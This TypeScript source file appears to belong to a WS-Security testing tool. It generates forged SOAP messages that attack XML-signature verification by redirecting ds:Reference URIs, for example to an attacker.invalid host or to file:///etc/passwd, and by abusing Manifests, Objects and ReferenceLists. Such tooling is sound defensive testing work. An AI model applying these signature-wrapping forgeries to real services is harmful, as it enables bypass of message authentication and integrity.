import { attribute, child, isNamed, withAttribute, type XmlElement } from '@holdfast/soap';
import { CANONICALIZATION } from '../../canonical/canonicalize.js';
import { DS, ds, WSSE, WSU_ID, xenc } from '../../namespaces.js';
import { type AttackFamily, type Draft, EVIL } from './attack.js';
import { after, append, by, content, prepend, remove, set, unset } from './edit.js';
import { digestOf, resealed } from './reseal.js';
import { node, nodes, withoutId } from './secured-message.js';
import { unlisted } from './stripping.js';

const EMPTY_SHA1 = '2jmj7l5rSw0yVb/vlWAYkK/YBwk=';

/** What a ds:Reference points to: something else, somewhere else, or nothing. */
export const references: AttackFamily = function* (message, options) {
  const { signedInfo, header, security, root, body, signature } = message;
  const first = message.signed.find(({ element }) => element === body) ?? message.signed[0];
  if (signedInfo === undefined || signature === undefined || first === undefined) return;
  const { reference, id, element } = first;
  const value = child(reference, ds('DigestValue'));
  const evil = { ...withoutId(element), children: nodes(options.body ?? EVIL) };
  const gone = unlisted(message, element);

  const uris: Readonly<Record<string, string>> = {
    'external-http': 'http://attacker.invalid/body.xml',
    'external-https': 'https://attacker.invalid/body.xml',
    'external-file': 'file:///etc/passwd',
    'external-cid': 'cid:body@attacker.invalid',
    'external-data': 'data:text/xml,%3Cx/%3E',
    relative: 'body.xml',
    empty: '',
    'empty-fragment': '#',
    'xpointer-root': '#xpointer(/)',
    'xpointer-id': `#xpointer(id('${id}'))`,
    'bare-id': id,
    'to-nothing': '#not-there',
    'with-spaces': ` #${id} `,
    'percent-encoded': `#%${id.charCodeAt(0).toString(16)}${id.slice(1)}`,
    'other-document': `other.xml#${id}`,
    'case-changed': `#${id.toUpperCase()}x`,
  };
  for (const [what, uri] of Object.entries(uris)) {
    const edited = message.with([reference, set('URI', uri)], [element, by(evil)], ...gone);
    yield {
      name: `references/${what}`,
      about: `The reference to the ${element.local} has the URI "${uri}", and the ${element.local} is forged.`,
      result: resealed(edited, options, 'all'),
    };
  }
  const doctored = (what: string, about: string, result: XmlElement, keep: 'all' | readonly number[] = []): Draft => ({
    name: `references/${what}`,
    about,
    result: resealed(result, options, keep),
  });
  yield doctored(
    'without-uri',
    'A reference without URI leaves it to the receiver what is signed.',
    message.with([reference, unset('URI')], [element, by(evil)], ...gone),
    'all',
  );
  yield doctored(
    'doubled-id-attributes',
    'The forged part has the Id of the signed one as xml:id and wsu:Id at once.',
    message.with([
      element,
      by(
        withAttribute(
          withAttribute(evil, WSU_ID, id),
          { prefix: 'xml', namespace: 'http://www.w3.org/XML/1998/namespace', local: 'id' },
          `${id}x`,
        ),
      ),
    ]),
    'all',
  );
  for (const [what, target] of [
    ['envelope', root],
    ['header', header],
    ['security', security],
    ['signature', signature],
    ['signed-info', signedInfo],
  ] as const) {
    const known = what === 'signature' || what === 'signed-info' ? 'Id' : undefined;
    const named = attribute(target, known ?? WSU_ID) ?? 'outer';
    const edits = [
      [target, known === undefined ? set(WSU_ID, named) : set(known, named)],
      [reference, set('URI', `#${named}`)],
      ...(value === undefined ? [] : [[value, content(EMPTY_SHA1)] as const]),
    ] as const;
    yield doctored(
      `to-${what}`,
      `The reference to the ${element.local} is turned to the ${target.local}.`,
      message.with(...edits),
      'all',
    );
  }
  const timestamp = message.signed.find(({ element: other }) => other === message.timestamp);
  if (timestamp !== undefined && element !== timestamp.element) {
    yield doctored(
      'to-another-part',
      `The reference to the ${element.local} is turned to the Timestamp, which is then signed twice.`,
      message.with([reference, set('URI', `#${timestamp.id}`)], [element, by(evil)], ...gone),
    );
  }
  yield doctored(
    'manifest',
    'The parts are referred to in a Manifest only, whose own digests nobody has to check.',
    message.with(
      ...message.signed.map(({ reference: each }) => [each, remove] as const),
      [
        signedInfo,
        append(
          node(
            `<ds:Reference xmlns:ds="${DS}" URI="#manifest" Type="${DS}Manifest"><ds:Transforms><ds:Transform Algorithm="${CANONICALIZATION.exclusive}"/></ds:Transforms><ds:DigestMethod Algorithm="${DS}sha1"/><ds:DigestValue/></ds:Reference>`,
          ),
        ),
      ],
      [
        signature,
        append({
          ...node(`<ds:Object xmlns:ds="${DS}"><ds:Manifest Id="manifest"/></ds:Object>`),
          children: [
            {
              ...node(`<ds:Manifest xmlns:ds="${DS}" Id="manifest"/>`),
              children: message.signed.map(({ reference: each }) => each),
            },
          ],
        }),
      ],
      [element, by({ ...evil, attributes: element.attributes })],
      ...gone,
    ),
  );
  yield doctored(
    'in-object',
    'What is signed is an Object within the Signature; the Body is not.',
    message.with(
      [reference, set('URI', '#object')],
      [signature, append({ ...node(`<ds:Object xmlns:ds="${DS}" Id="object"/>`), children: [withoutId(element)] })],
      [element, by(evil)],
      ...gone,
    ),
  );
  yield doctored(
    'reference-in-reference',
    'The good reference hides inside a bad one.',
    message.with([reference, by({ ...reference, children: [...reference.children, withoutId(reference)] })]),
    'all',
  );
  if (value !== undefined) {
    yield doctored(
      'appended-unsigned',
      'A reference with the digest of the forged part is added without signing anew.',
      message.with([element, by({ ...evil, attributes: element.attributes })], ...gone, [
        reference,
        after({
          ...reference,
          children: reference.children.map((each) =>
            typeof each === 'object' && each.kind === 'element' && isNamed(each, ds('DigestValue'))
              ? { ...each, children: [digestOf({ ...evil, attributes: element.attributes }, reference)] }
              : each,
          ),
        }),
      ]),
      'all',
    );
  }
  for (const [what, child_] of [
    ['unknown-in-signed-info', node('<x:Y xmlns:x="urn:attacker"/>')],
    ['object-in-signed-info', node(`<ds:Object xmlns:ds="${DS}"/>`)],
  ] as const) {
    yield doctored(
      what,
      'SignedInfo holds something that has no place in it; signed anew.',
      message.with([signedInfo, append(child_)]),
    );
  }
  yield doctored(
    'security-token-reference-as-reference',
    'A SecurityTokenReference stands where a Reference belongs.',
    message.with([reference, by(node(`<wsse:SecurityTokenReference xmlns:wsse="${WSSE}"/>`))]),
    'all',
  );
  const list = message.referenceLists[0];
  const data = list && child(list, xenc('DataReference'));
  if (list === undefined || data === undefined) return;
  const lists: readonly (readonly [string, string, XmlElement])[] = [
    [
      'list-external',
      'A ReferenceList names something elsewhere.',
      message.with([data, set('URI', 'http://attacker.invalid/x')]),
    ],
    ['list-to-nothing', 'A ReferenceList names what is not there.', message.with([data, set('URI', '#not-there')])],
    [
      'list-to-part',
      'A ReferenceList names a part that is not encrypted.',
      message.with([
        list,
        append(withAttribute(data, { prefix: '', namespace: '', local: 'URI' }, `#${attribute(body, WSU_ID)}`)),
      ]),
    ],
    ['list-repeated', 'A ReferenceList names one EncryptedData twice.', message.with([list, append(data)])],
    [
      'list-key-reference',
      'A ReferenceList names keys, not data.',
      message.with([list, prepend({ ...data, local: 'KeyReference' })]),
    ],
    ['list-empty', 'A ReferenceList is emptied.', message.with([list, content()])],
    ['list-without-uri', 'A DataReference names nothing.', message.with([data, unset('URI')])],
  ];
  for (const [what, about, result] of lists)
    if (what !== 'list-empty' || message.isMissed(list)) yield { name: `references/${what}`, about, result };
};
